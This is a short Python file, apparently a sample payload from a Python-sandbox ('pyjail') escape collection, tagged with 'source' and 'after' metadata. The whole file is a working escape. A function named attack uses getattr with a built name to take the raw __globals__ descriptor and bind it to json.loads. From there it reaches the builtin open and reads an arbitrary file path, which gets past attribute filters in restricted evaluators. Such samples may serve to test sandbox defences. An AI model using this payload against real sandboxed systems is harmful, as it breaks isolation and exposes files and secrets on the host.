# A raw descriptor of the interpreter's, by `getattr` with a made name.
# after: read
# source: pyjail: descriptors
import json
def attack(path, **_):
    place = getattr(type(attack), "__globals__")
    return {"text": getattr(place, "__get__")(json.loads)["__builtins__"]["open"](path).read()}
